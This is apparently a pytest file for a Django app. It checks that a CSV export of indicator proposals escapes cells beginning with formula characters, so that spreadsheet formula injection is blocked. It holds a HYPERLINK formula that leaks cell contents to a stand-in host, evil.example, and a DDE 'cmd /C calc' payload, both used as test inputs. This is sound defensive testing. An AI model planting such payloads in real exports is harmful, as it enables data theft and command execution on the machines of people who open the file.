"""The proposal export is opened by KS staff in a spreadsheet: a title typed by anyone must not
run as a formula there (issue #16)."""

import csv
import io

import pytest
from django.test import Client

from conftest import make_user
from lokalmaal.catalogue.models import Target
from lokalmaal.indicators.models import Proposal

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_proposal_title_never_becomes_a_formula_in_the_export(start: str):
    author = make_user("forslag@volda.kommune.no")
    Proposal.objects.create(
        title=start + ATTACK[1:],
        what="@SUM(1+1)*cmd|' /C calc'!A0",
        why="-2+3",
        target=Target.objects.get(code="7.2"),
        possible_source="+47 Enova",
        created_by=author,
    )
    ks = make_user("stab@ks.no")
    ks.is_platform_admin = True
    ks.save()
    admin = Client()
    admin.force_login(ks)
    response = admin.get("/indikatorar/forslag/eksport.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["indikator"] == "'" + start + ATTACK[1:]
    assert cells["kva"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["kvifor"] == "'-2+3"
    assert cells["mogleg kjelde"] == "'+47 Enova"
    assert cells["delmål"] == "7.2"
